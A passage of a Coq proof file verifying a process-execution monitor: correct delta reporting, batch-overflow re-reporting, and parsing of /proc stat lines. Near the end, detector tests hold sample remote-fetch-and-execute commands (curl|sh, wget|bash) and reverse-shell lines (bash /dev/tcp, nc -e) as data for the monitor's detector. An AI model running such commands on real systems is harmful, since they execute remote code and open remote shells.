    destruct (reporting c); [|lia]. cbn [take]. rewrite Hcons; [rewrite length_app; lia|]. intros Hin. apply Hpid', (elem_of_sublist _ _ _ Hin), sublist_take. }
  rewrite table_cons, Hl', Hs', Hout', Hout, Hrep, Hl, Hs. split_and!.
  - destruct (ticks_of (c_opts c) v pid); [|done]. by rewrite <- insert_union_r, insert_union_l by (by apply not_elem_of_table).
  - destruct (ticks_of (c_opts c) v pid); [|done]. by rewrite <- insert_union_r, insert_union_l by (by apply not_elem_of_table).
  - rewrite <- app_assoc. f_equal. destruct (reporting c); [|done]. by rewrite Hcons, Hs, map_app.
Qed.

Lemma cleanupSeen_table o v pids seen : cleanupSeen (table o v pids ∪ ∅) (table o v pids ∪ seen) = table o v pids.
Proof.
  rewrite (right_id_L ∅ (∪)). apply map_eq. intros k. unfold cleanupSeen.
  destruct (table o v pids !! k) as [x|] eqn:E.
  - apply map_lookup_filter_Some. split; [by apply lookup_union_Some_l|]. cbn. by rewrite E.
  - apply map_lookup_filter_None. right. intros x _ [y Hy]. cbn in Hy. congruence.
Qed.

(** The capture is not put off. *)
Definition due (c : Capturer) (now : time) : Prop :=
  o_MinInterval (c_opts c) <= 0 ∨ c_lastRun c = 0 ∨ o_MinInterval (c_opts c) <= time_sub now (c_lastRun c).

(** What a capture does that could list the processes. *)
Lemma procexec_capture_spec c v now pids : honest (c_opts c) v pids → listPIDs v = Some pids → NoDup pids → now ≠ 0 → due c now →
  ∃ out scanned unreached, pids = scanned ++ unreached ∧
    (Capture' c v now 0).1 = Some out ∧
    c_opts (Capture' c v now 0).2 = c_opts c ∧ c_initialized (Capture' c v now 0).2 = true ∧ c_lastRun (Capture' c v now 0).2 = now ∧
    c_seen (Capture' c v now 0).2 = table (c_opts c) v scanned ∧
    (unreached ≠ [] → o_MaxBatchSize (c_opts c) <= Z.of_nat (length out)) ∧
    (∀ n pid, scanned !! n = Some pid →
      Z.of_nat (length (if reporting c then executions (c_opts c) v (c_seen c) (take n scanned) else [])) < o_MaxBatchSize (c_opts c)) ∧
    map reported out = if reporting c then map Some (executions (c_opts c) v (c_seen c) scanned) else [].
Proof.
  intros Hon Hl Hnd Hnow Hdue. unfold Capture, is_zero_time. rewrite (proj2 (Z.eqb_neq _ _) Hnow).
  destruct (_ && _ && _) eqn:Hskip.
  { exfalso. unfold due in Hdue. zbool. lia. }
  rewrite Hl. set (c0 := set_run _ now c). pose proof (capture_loop_spec v now pids c0 ∅ [] Hnd Hon) as Hspec.
  destruct (capture_loop' v now pids c0 ∅ []) as [[out live] c']. cbn [fst snd].
  destruct Hspec as ((Ho & Hi & Hr) & scanned & unreached & Hp & Hun & Hroom & Hlive & Hseen & Hout). exists out, scanned, unreached.
  cbn in *. split_and!; try done. by rewrite Hlive, Hseen, cleanupSeen_table.
Qed.

(** ** The reference *)

Definition all_pids (v : view) : list Z := default [] (listPIDs v).
Definition processes (o : Options) (v : view) : gmap Z Z := table o v (all_pids v).

(** The executions after what was seen: those the views show one after another. *)
Fixpoint reference (o : Options) (seen : gmap Z Z) (obs : list (time * view)) : list (list (Z * Z)) :=
  match obs with
  | [] => []
  | (_, v) :: obs => executions o v seen (all_pids v) :: reference o (processes o v) obs
  end.
Definition first_reference (o : Options) (obs : list (time * view)) : list (list (Z * Z)) :=
  match obs with
  | [] => []
  | (_, v) :: obs => (if o_EmitInitialState o then executions o v ∅ (all_pids v) else []) :: reference o (processes o v) obs
  end.

Fixpoint captures (c : Capturer) (obs : list (time * view)) : list (option (list NetEvent)) :=
  match obs with
  | [] => []
  | (t, v) :: obs => (Capture' c v t 0).1 :: captures (Capture' c v t 0).2 obs
  end.

(** A view in which processes have distinct numbers, shown under them, at a time
    that is not the zero time. *)
Definition readable (o : Options) (obs : time * view) : Prop := obs.1 ≠ 0 ∧ ∃ pids, listPIDs obs.2 = Some pids ∧ NoDup pids ∧ honest o obs.2 pids.

(** Captures at least the minimum interval apart. *)
Definition spaced (o : Options) (last : time) (obs : list (time * view)) : Prop :=
  ∀ pre t v post, obs = pre ++ (t, v) :: post → t - default last (fst <$> list.last pre) >= o_MinInterval o.

Lemma spaced_cons o last t v obs : spaced o last ((t, v) :: obs) → t - last >= o_MinInterval o ∧ spaced o t obs.
Proof.
  intros H. split; [by apply (H [] t v obs)|]. intros pre t' v' post ->. specialize (H ((t, v) :: pre) t' v' post eq_refl).
  rewrite last_cons in H. by destruct (list.last pre).
Qed.

Lemma due_spaced c t : o_MinInterval (c_opts c) <= max_int64 → t - c_lastRun c >= o_MinInterval (c_opts c) → due c t.
Proof. intros Hm Ht. right. right. unfold time_sub, sat64, min_int64, max_int64 in *. lia. Qed.

Lemma captures_reference o : o_MinInterval o <= max_int64 → ∀ obs c seen, c_opts c = o → c_seen c = seen → reporting c = true →
  Forall (readable o) obs → spaced o (c_lastRun c) obs → Forall (λ l, Z.of_nat (length l) < o_MaxBatchSize o) (reference o seen obs) →
  map (fmap (map reported)) (captures c obs) = map (λ l, Some (map Some l)) (reference o seen obs).
Proof.
  intros Hmi. induction obs as [|[t v] obs IH]; intros c seen Ho Hs Hrep Hr Hsp Hsz; [done|].
  apply Forall_cons in Hr as [(Ht & pids & Hl & Hnd & Hon) Hr]. apply spaced_cons in Hsp as [Hd Hsp]. cbn in Hsz. apply Forall_cons in Hsz as [Hsz1 Hsz].
  cbn [fst snd] in *. subst o seen.
  destruct (procexec_capture_spec c v t pids Hon Hl Hnd Ht (due_spaced c t Hmi Hd)) as (out & scanned & unreached & -> & Hout & Ho' & Hi' & Hl' & Hs' & Hun & _ & Hmap).
  rewrite Hrep in Hmap. cbn [captures reference map]. rewrite Hout. cbn [fmap option_fmap option_map]. rewrite Hmap.
  unfold processes, all_pids in *. rewrite Hl in *. cbn [default] in *.
  assert (unreached = []) as ->.
  { destruct unreached as [|q unreached]; [done|]. specialize (Hun ltac:(done)). exfalso.
    apply (f_equal length) in Hmap. rewrite !length_map in Hmap. revert Hsz1. unfold executions, default. cbn [from_option id]. rewrite omap_app, length_app.
    fold (executions (c_opts c) v (c_seen c) scanned). lia. }
  rewrite app_nil_r in *. unfold default, id, from_option. f_equal. apply IH; try done; [|by rewrite Hl'].
  unfold reporting. by rewrite Hi'.
Qed.

Lemma positive_pos d v : 0 < d → 0 < positive d v.
Proof. unfold positive. go_cases; lia. Qed.

(** C29: the captures report each execution exactly once.  When the captures list the
    processes, are the minimum interval apart and never fill a batch, each reports
    exactly the processes that the view before did not show with the same number and
    start time and that the options do not ignore, in the order of their numbers; the first
    reports none, or all when the initial state is asked for. *)
Theorem captures_report_executions agentID opts obs :
  let o := applyDefaults opts in
  o_MinInterval o <= max_int64 → Forall (readable o) obs → spaced o 0 obs →
  Forall (λ l, Z.of_nat (length l) < o_MaxBatchSize o) (first_reference o obs) →
  map (fmap (map reported)) (captures (New agentID opts) obs) = map (λ l, Some (map Some l)) (first_reference o obs).
Proof.
  intros o Hmi Hr Hsp Hsz. destruct (o_EmitInitialState o) eqn:He.
  { assert (first_reference o obs = reference o ∅ obs) as E by (destruct obs as [|[t v] obs]; [done|]; unfold first_reference; by rewrite He).
    rewrite E in *. apply captures_reference; done. }
  destruct obs as [|[t v] obs]; [done|]. cbn [first_reference captures map] in *. rewrite He in *.
  apply Forall_cons in Hr as [(Ht & pids & Hl & Hnd & Hon) Hr]. apply spaced_cons in Hsp as [Hd Hsp]. apply Forall_cons in Hsz as [_ Hsz]. cbn [fst snd] in *.
  destruct (procexec_capture_spec (New agentID opts) v t pids Hon Hl Hnd Ht (due_spaced (New agentID opts) t Hmi Hd))
    as (out & scanned & unreached & -> & Hout & Ho' & Hi' & Hl' & Hs' & Hun & _ & Hmap).
  assert (reporting (New agentID opts) = false) as Hrep by done. rewrite Hrep in Hmap. apply map_eq_nil in Hmap as ->.
  assert (unreached = []) as ->.
  { destruct unreached; [done|]. specialize (Hun ltac:(done)). pose proof (positive_pos 200 (o_MaxBatchSize opts)). cbn in Hun. lia. }
  rewrite app_nil_r in *. rewrite Hout. cbn [fmap option_fmap option_map map]. f_equal. unfold processes, all_pids in *. rewrite Hl in *. cbn [default from_option id] in *.
  apply (captures_reference o Hmi obs (Capture' (New agentID opts) v t 0).2 (table o v scanned)); try done; [|by rewrite Hl'].
  unfold reporting. by rewrite Hi'.
Qed.

(** A full batch makes the capturer report processes again.  When a capture fills its batch
    before it reaches a process that is running, was seen before and is not
    ignored, that process is forgotten, and the next capture, although nothing changed,
    reports it as a new execution unless it is full as well. *)
Theorem full_batch_reports_again c v t1 t2 pids n pid ticks :
  let o := c_opts c in let c1 := (Capture' c v t1 0).2 in
  honest o v pids → listPIDs v = Some pids → NoDup pids → t1 ≠ 0 → t2 ≠ 0 → due c t1 → due c1 t2 → c_initialized c = true →
  pids !! n = Some pid → ticks_of o v pid = Some ticks → ignored o v pid = false → c_seen c !! pid = Some ticks →
  o_MaxBatchSize o <= Z.of_nat (length (executions o v (c_seen c) (take n pids))) →
  c_seen c1 !! pid = None ∧
  ∃ out, (Capture' c1 v t2 0).1 = Some out ∧ (Some (pid, ticks) ∈ map reported out ∨ o_MaxBatchSize o <= Z.of_nat (length out)).
Proof.
  intros o c1 Hon Hl Hnd Ht1 Ht2 Hd1 Hd2 Hini Hn Hk Hig Hseen Hfull.
  destruct (procexec_capture_spec c v t1 pids Hon Hl Hnd Ht1 Hd1) as (out1 & scanned & unreached & Hp & Hout1 & Ho1 & Hi1 & Hl1 & Hs1 & _ & Hroom & _).
  fold c1 in Ho1, Hi1, Hl1, Hs1. fold o in Ho1, Hs1, Hroom. assert (reporting c = true) as Hrep by (unfold reporting; by rewrite Hini). rewrite Hrep in Hroom.
  assert (pid ∉ scanned) as Hnot.
  { intros Hin%list_elem_of_lookup. destruct Hin as [m Hm]. assert (m = n) as ->.
    { eapply NoDup_lookup; [done| |done]. rewrite Hp. by apply lookup_app_l_Some. }
    specialize (Hroom n pid Hm). rewrite Hp, take_app_le in Hfull by (apply lookup_lt_Some in Hm; lia). lia. }
  assert (c_seen c1 !! pid = None) as Hgone by (rewrite Hs1; by apply not_elem_of_table). split; [done|].
  rewrite <- Ho1 in Hon. destruct (procexec_capture_spec c1 v t2 pids Hon Hl Hnd Ht2 Hd2) as (out2 & scanned2 & unreached2 & Hp2 & Hout2 & _ & _ & _ & _ & Hun2 & _ & Hmap2).
  exists out2. split; [done|]. rewrite Ho1 in Hun2, Hmap2. destruct unreached2 as [|q unreached2]; [left|right; by apply Hun2].
  rewrite app_nil_r in Hp2. subst scanned2. assert (reporting c1 = true) as Hrep1 by (unfold reporting; by rewrite Hi1). rewrite Hrep1 in Hmap2.
  rewrite Hmap2. apply list_elem_of_fmap. exists (pid, ticks). split; [done|]. unfold executions. apply list_elem_of_omap. exists pid.
  split; [by eapply list_elem_of_lookup_2|]. unfold execution. rewrite Hk. cbn. rewrite Hgone, Hig. by rewrite bool_decide_false.
Qed.
End deltas.

(** ** The status line of a process *)

Definition close_paren : ascii := ")"%char.

(** The line the kernel writes: number, name in parentheses, then words. *)
Definition stat_line (st : procStat) (pgrp : string) (others rest : list string) : string :=
  Itoa (ps_PID st) +:+ " (" +:+ ps_Comm st +:+ ") " +:+
  Join ([ps_State st; Itoa (ps_PPID st); pgrp; Itoa (ps_Session st); Itoa (ps_TTYNr st)] ++ others ++ [Itoa (ps_StartTicks st)] ++ rest) " " +:+
  of_chars [newline].

Definition stat_word (w : string) : Prop := word w ∧ close_paren ∉ to_chars w.

Lemma stat_word_Itoa z : stat_word (Itoa z).
Proof. split; [apply word_Itoa|by apply not_elem_of_Itoa]. Qed.

Lemma TrimSpace_Join p w ws q : Forall (λ a, space1 a = true) p → Forall (λ a, space1 a = true) q → Forall word (w :: ws) →
  TrimSpace (of_chars (p ++ to_chars (Join (w :: ws) " ") ++ q)) = Join (w :: ws) " ".
Proof.
  intros Hp Hq Hw. destruct (Join_ends w ws Hw) as (a & l & b & l' & El & Ha & El' & Hb).
  rewrite El, (TrimSpace_pad p a l b l' q), <- El by (try done; congruence). apply of_to_chars.
Qed.

Lemma stat_line_trimmed pid comm w ws : Forall word (w :: ws) →
  to_chars (TrimSpace (Itoa pid +:+ " (" +:+ comm +:+ ") " +:+ Join (w :: ws) " " +:+ of_chars [newline])) =
    (to_chars (Itoa pid) ++ [" "%char]) ++ "("%char :: to_chars comm ++ close_paren :: " "%char :: to_chars (Join (w :: ws) " ").
Proof.
  intros Hw. destruct (Join_ends w ws Hw) as (_ & _ & b & l' & _ & _ & El' & Hb).
  destruct (Join_ends (Itoa pid) []) as (pa & pl & _ & _ & Epid & Hpa & _); [repeat constructor; apply word_Itoa|]. cbn [Join] in Epid.
  rewrite <- (of_to_chars (_ +:+ _)), !to_chars_app, to_of_chars, Epid.
  change (to_chars " (") with [" "%char; "("%char]. change (to_chars ") ") with [close_paren; " "%char].
  pose proof (TrimSpace_pad [] pa (pl ++ [" "%char; "("%char] ++ to_chars comm ++ [close_paren; " "%char] ++ to_chars (Join (w :: ws) " ")) b
    (pa :: pl ++ [" "%char; "("%char] ++ to_chars comm ++ [close_paren; " "%char] ++ l') [newline]) as Ht.
  cbn [app] in *. rewrite <- !app_assoc in *. cbn [app] in *. rewrite <- !app_assoc in *. cbn [app] in *. rewrite Ht; [by rewrite to_of_chars|done|by repeat constructor|done|done|].
  by rewrite El'.
Qed.

(** A process cannot confuse the parser with its name.  Whatever bytes the name has,
    parentheses, spaces and line ends included, the line the kernel writes is read back
    as it was written, the name without the white space around it. *)
Theorem stat_line_roundtrip st pgrp others rest :
  0 < ps_PID st <= max_int64 → in_int64 (ps_PPID st) = true → in_int64 (ps_Session st) = true → in_int64 (ps_TTYNr st) = true →
  0 <= ps_StartTicks st <= max_uint64 → length others = 14%nat → Forall stat_word (ps_State st :: pgrp :: others ++ rest) →
  parseProcStatLine (stat_line st pgrp others rest) =
    Some {| ps_PID := ps_PID st; ps_Comm := TrimSpace (ps_Comm st); ps_State := ps_State st; ps_PPID := ps_PPID st;
            ps_Session := ps_Session st; ps_TTYNr := ps_TTYNr st; ps_StartTicks := ps_StartTicks st |}.
Proof.
  intros Hpid Hppid Hses Htty Hticks Hlen Hwords. unfold stat_line. set (tail := _ ++ _ ++ _ ++ rest).
  assert (Forall stat_word tail) as Htail.
  { apply Forall_cons in Hwords as [Hst [Hpg [Ho Hr]%Forall_app]%Forall_cons]. unfold tail. cbn [app]. repeat constructor; try apply stat_word_Itoa; try apply Hst; try apply Hpg.
    apply Forall_app. split; [done|]. constructor; [apply stat_word_Itoa|done]. }
  assert (Forall word tail) as Hw by (eapply Forall_impl; [done|]; by intros ? []).
  assert (close_paren ∉ to_chars (Join tail " ")) as Hnp by (apply not_elem_of_Join; [done|]; eapply Forall_impl; [exact Htail|exact (λ w H, proj2 H)]).
  unfold parseProcStatLine. pose proof (stat_line_trimmed (ps_PID st) (ps_Comm st) (ps_State st) (List.tl tail) Hw) as Ht.
  change (ps_State st :: List.tl tail) with tail in Ht. rewrite Ht. clear Ht.
  set (before := to_chars (Itoa (ps_PID st)) ++ [" "%char]).
  rewrite index_byte_first.
  2: { unfold before. rewrite not_elem_of_app. split; [by apply not_elem_of_Itoa|by rewrite list_elem_of_singleton]. }
  cbn [mbind option_bind]. set (comm := to_chars (ps_Comm st)). set (words := to_chars (Join tail " ")).
  assert (before ++ "("%char :: comm ++ close_paren :: " "%char :: words = (before ++ "("%char :: comm) ++ close_paren :: " "%char :: words) as E by (by rewrite <- app_assoc).
  rewrite E. rewrite last_index_byte_last by (rewrite not_elem_of_cons; done). cbn [mbind option_bind].
  assert (0 < length before)%nat as Hb by (unfold before; rewrite length_app; cbn; lia).
  rewrite (proj2 (Nat.eqb_neq _ _)) by lia. rewrite (proj2 (Nat.leb_gt _ _)) by (rewrite length_app; cbn; lia). cbn [orb].
  assert (TrimSpace (of_chars before) = Itoa (ps_PID st)) as Hp.
  { apply (TrimSpace_Join [] (Itoa (ps_PID st)) [] [" "%char]); repeat constructor; apply word_Itoa. }
  assert (slice ((before ++ "("%char :: comm) ++ close_paren :: " "%char :: words) (S (length before)) (length (before ++ "("%char :: comm)) = comm) as Hc.
  { rewrite <- E, (cons_middle _ before), app_assoc. unfold slice.
    rewrite (drop_app_length' (before ++ ["("%char])) by (rewrite length_app; cbn; lia). apply take_app_length'. rewrite length_app. cbn. lia. }
  assert (drop (S (length (before ++ "("%char :: comm))) ((before ++ "("%char :: comm) ++ close_paren :: " "%char :: words) = " "%char :: words) as Hd.
  { rewrite (cons_middle close_paren (before ++ _)), app_assoc. apply drop_app_length'. rewrite !length_app. cbn. lia. }
  assert (TrimSpace (of_chars (" "%char :: words)) = Join tail " ") as Hj.
  { pose proof (TrimSpace_Join [" "%char] (ps_State st) (List.tl tail) []) as H. rewrite app_nil_r in H. apply H; [by repeat constructor|done|done]. }
  rewrite Hc, Hd, Hj, Fields_Join by done. rewrite <- E, take_app_length, Hp.
  rewrite Atoi_Itoa by (unfold in_int64, min_int64; apply andb_true_iff; split; apply Z.leb_le; lia). cbn [mbind option_bind].
  rewrite (proj2 (Z.leb_gt _ _)) by lia. subst tail comm words. rewrite of_to_chars.
  rewrite (proj2 (Nat.ltb_ge _ _)) by (rewrite !length_app; cbn; lia).
  assert (field ([ps_State st; Itoa (ps_PPID st); pgrp; Itoa (ps_Session st); Itoa (ps_TTYNr st)] ++ others ++ [Itoa (ps_StartTicks st)] ++ rest) 19 = Itoa (ps_StartTicks st)) as ->.
  { unfold field. rewrite lookup_app_r by (cbn; lia). cbn [length Nat.sub]. rewrite lookup_app_r by lia. by rewrite Hlen. }
  unfold field. cbn [app lookup list_lookup default from_option id]. rewrite !Atoi_Itoa, ParseUint10_Itoa by done. done.
Qed.

(** ** Examples *)

Example remote_fetch : map (MatchString reRemoteFetchExec) ["curl http://x/y | sh"; "curl http://x | shx"; "wget -q a|bash -s"; "mycurl a|sh"] = [true; false; true; false].
Proof. vm_compute. reflexivity. Qed.
Example reverse_shell : map (MatchString reReverseShell) ["bash -i >& /dev/tcp/1.2.3.4/99 0>&1"; "nc 1.2.3.4 99 -e /bin/sh"; "nc -lvp 99"] = [true; true; false].
Proof. vm_compute. reflexivity. Qed.

Definition demo_opts (batch : Z) : Options := {|
  o_ProcRoot := ""; o_MinInterval := 0; o_EmitInitialState := false; o_MaxBatchSize := batch; o_CmdlineMaxBytes := 0;
  o_IgnoreExeNames := ∅; o_IgnoreCmdContains := []; o_HashExecutables := false; o_HashMaxBytes := 0; o_HashCacheTTL := 0;
  o_HashCacheMaxItems := 0; o_UsernameCacheTTL := 0 |}.
Definition demo_stat (pid ticks : Z) : procStat := {|
  ps_PID := pid; ps_Comm := "a) S (b"; ps_State := "S"; ps_PPID := 1; ps_Session := 0; ps_TTYNr := -1; ps_StartTicks := ticks |}.
Definition demo_stat_line (p : Z * Z) : string := stat_line (demo_stat p.1 p.2) "0" (replicate 14 "7"%string) ["0"].
Definition demo_view (procs : list (Z * Z)) : view := {|
  v_entries := Some (map (λ p, (Itoa p.1, true)) procs ++ [("self"%string, true)]);
  v_file := λ path, x ← list_find (λ f, f.1 = path) (map (λ p, ("/proc/" +:+ Itoa p.1 +:+ "/stat", demo_stat_line p)%string) procs); Some (snd x.2);
  v_link := λ _, None; v_stat := λ _, None; v_user := λ _, None |}.
Definition demo_before : time * view := (10, demo_view [(5, 50)]).
Definition demo_after : view := demo_view [(1, 10); (2, 20); (5, 50)].

Lemma demo_honest o procs : Forall (λ p : Z * Z, option_map ps_PID (v_file (demo_view procs) (proc_path o p.1 "stat") ≫= parseProcStatLine) = Some p.1) procs →
  honest o (demo_view procs) (map fst procs).
Proof. intros H. unfold honest. apply Forall_map. eapply Forall_impl; [exact H|]. cbn. intros p Hp st Hst. rewrite Hst in Hp. by injection Hp. Qed.

Lemma demo_readable : Forall (readable (applyDefaults (demo_opts 5))) [demo_before; (20, demo_after)].
Proof.
  apply Forall_cons. split; [|apply Forall_singleton].
  - split; [done|]. exists [5]. split; [done|]. split; [by apply (bool_decide_unpack _)|]. apply (demo_honest _ [(5, 50)]). by repeat constructor.
  - split; [done|]. exists [1; 2; 5]. split; [done|]. split; [by apply (bool_decide_unpack _)|]. apply (demo_honest _ [(1, 10); (2, 20); (5, 50)]). by repeat constructor.
Qed.

Lemma captures_report_executions_witness :
  map (fmap (map reported)) (captures id (λ _, "now"%string) (λ _, None) map_to_list (New "agent" (demo_opts 5)) [demo_before; (20, demo_after)]) =
    [Some []; Some [Some (1, 10); Some (2, 20)]].
Proof.
  refine (eq_trans (captures_report_executions id (λ _, "now"%string) (λ _, None) map_to_list "agent" (demo_opts 5) [demo_before; (20, demo_after)] _ _ _ _) _).
  - done.
  - apply demo_readable.
  - intros [|x [|y [|? ?]]] t v post H; inversion H; subst; cbn; lia.
  - vm_compute. repeat constructor.
  - vm_compute. reflexivity.
Defined.

(** The capturer after the first capture. *)
Definition demo_seen : Capturer :=
  (Capture id (λ _, "now"%string) (λ _, None) map_to_list (New "agent" (demo_opts 2)) (demo_view [(5, 50)]) 10 0).2.

Lemma full_batch_reports_again_witness :
  c_seen demo_seen !! 5 = Some 50 ∧ c_seen (Capture id (λ _, "now"%string) (λ _, None) map_to_list demo_seen demo_after 20 0).2 !! 5 = None ∧
  (Capture id (λ _, "now"%string) (λ _, None) map_to_list (Capture id (λ _, "now"%string) (λ _, None) map_to_list demo_seen demo_after 20 0).2 demo_after 30 0).1
    ≫= (λ out, Some (map reported out)) = Some [Some (5, 50)].
Proof.
  split; [by vm_compute|]. split; [|by vm_compute].
  destruct (full_batch_reports_again id (λ _, "now"%string) (λ _, None) map_to_list demo_seen demo_after 20 30 [1; 2; 5] 2 5 50) as [Hgone _]; [..|exact Hgone].
  - apply (demo_honest _ [(1, 10); (2, 20); (5, 50)]). by repeat constructor.
  - done.
  - by apply (bool_decide_unpack _).
  - done.
  - done.
  - by left.
  - by left.
  - done.
  - done.
  - by vm_compute.
  - by vm_compute.
  - by vm_compute.
  - by vm_compute.
Defined.

Lemma stat_line_roundtrip_witness :
  parseProcStatLine (demo_stat_line (7, 99)) = Some (demo_stat 7 99).
Proof.
  refine (stat_line_roundtrip (demo_stat 7 99) "0" (replicate 14 "7"%string) ["0"] _ _ _ _ _ _ _); try done; try (split; by vm_compute).
  repeat constructor; try (by apply (bool_decide_unpack _)); intros H; by apply (bool_decide_unpack _) in H.
Defined.
